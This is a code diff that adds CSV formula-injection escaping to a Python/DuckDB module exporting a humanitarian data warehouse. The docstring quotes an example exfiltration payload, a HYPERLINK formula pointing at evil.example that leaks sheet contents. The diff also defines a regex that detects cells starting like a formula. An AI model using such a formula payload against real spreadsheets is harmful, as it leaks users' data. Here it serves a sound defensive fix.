@@ -1,6 +1,11 @@
 """Exports of the published warehouse: Parquet (partitioned by source), CSV, and HXL-tagged
 CSV for humanitarian tools. Each export reads one read-only connection, so it is one
-consistent snapshot even while a run loads."""
+consistent snapshot even while a run loads.
+
+CSV is opened by spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` as a
+formula: a document titled `=HYPERLINK("http://evil.example/?"&A1,"Open")` would become a
+link leaking the sheet. Text cells starting with one of those (or a tab or carriage return)
+get a leading `'`, as OWASP advises, unless the export is for a program (escape off)."""
 
 from __future__ import annotations
 
@@ -12,6 +17,8 @@ from pathlib import Path
 import duckdb
 
 EXPORT_FORMATS = ("parquet", "csv", "hxl")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_FORMULA_PATTERN = "^[=+@\\t\\r-]"  # the same, as a DuckDB regular expression
 
 # Figures with their provenance: what every export carries.
 FIGURES_QUERY = """
@@ -58,16 +65,43 @@ class ExportResult:
     rows: int
 
 
-def export(conn: duckdb.DuckDBPyConnection, fmt: str, out: Path) -> ExportResult:
-    """Write the warehouse's figures in one format under `out`."""
+def formula_safe(value: object) -> object:
+    """A cell value a spreadsheet will show, not run: text starting like a formula gets a
+    leading `'`; everything else is returned as it is."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def export(
+    conn: duckdb.DuckDBPyConnection, fmt: str, out: Path, escape_formulas: bool = True
+) -> ExportResult:
+    """Write the warehouse's figures in one format under `out` (CSV and HXL text cells that
+    start like a formula escaped, unless `escape_formulas` is off)."""
     if fmt not in EXPORT_FORMATS:
         raise ValueError(f"unknown format {fmt!r}; choose one of {', '.join(EXPORT_FORMATS)}")
     out.mkdir(parents=True, exist_ok=True)
     if fmt == "parquet":
         return _parquet(conn, out)
     if fmt == "csv":
-        return _csv(conn, out)
-    return _hxl(conn, out)
+        return _csv(conn, out, escape_formulas)
+    return _hxl(conn, out, escape_formulas)
+
+
+def _formula_safe_query(conn: duckdb.DuckDBPyConnection, query: str) -> str:
+    """`query` with each text column passed through the formula escape, in SQL."""
+    columns = conn.execute(f"DESCRIBE ({query})").fetchall()
+    projection = []
+    for name, column_type, *_ in columns:
+        quoted = '"' + name.replace('"', '""') + '"'
+        if column_type == "VARCHAR":
+            projection.append(
+                f"CASE WHEN regexp_matches({quoted}, '{_FORMULA_PATTERN}') "
+                f"THEN '''' || {quoted} ELSE {quoted} END AS {quoted}"
+            )
+        else:
+            projection.append(quoted)
+    return f"SELECT {', '.join(projection)} FROM ({query})"
 
 
 def _quoted(path: Path) -> str:
@@ -89,9 +123,10 @@ def _parquet(conn: duckdb.DuckDBPyConnection, out: Path) -> ExportResult:
     return ExportResult("parquet", [*sorted(target.rglob("*.parquet")), documents], rows)
 
 
-def _csv(conn: duckdb.DuckDBPyConnection, out: Path) -> ExportResult:
+def _csv(conn: duckdb.DuckDBPyConnection, out: Path, escape_formulas: bool) -> ExportResult:
     target = out / "figures.csv"
-    conn.execute(f"COPY ({FIGURES_QUERY}) TO {_quoted(target)} (HEADER, DELIMITER ',')").fetchall()
+    query = _formula_safe_query(conn, FIGURES_QUERY) if escape_formulas else FIGURES_QUERY
+    conn.execute(f"COPY ({query}) TO {_quoted(target)} (HEADER, DELIMITER ',')").fetchall()
     rows = conn.execute(f"SELECT count(*) FROM ({FIGURES_QUERY})").fetchall()[0][0]
     return ExportResult("csv", [target], rows)
 
@@ -124,7 +159,7 @@ def hxl_rows(conn: duckdb.DuckDBPyConnection) -> tuple[list[str], list[str], lis
     return header, hashtags, rows
 
 
-def _hxl(conn: duckdb.DuckDBPyConnection, out: Path) -> ExportResult:
+def _hxl(conn: duckdb.DuckDBPyConnection, out: Path, escape_formulas: bool) -> ExportResult:
     header, hashtags, rows = hxl_rows(conn)
     target = out / "figures.hxl.csv"
     with open(target, "w", newline="", encoding="utf-8") as handle:
@@ -132,5 +167,6 @@ def _hxl(conn: duckdb.DuckDBPyConnection, out: Path) -> ExportResult:
         writer.writerow(header)
         writer.writerow(hashtags)
         for row in rows:
-            writer.writerow(["" if value is None else value for value in row])
+            cells = [formula_safe(v) if escape_formulas else v for v in row]
+            writer.writerow(["" if value is None else value for value in cells])
     return ExportResult("hxl", [target], len(rows))
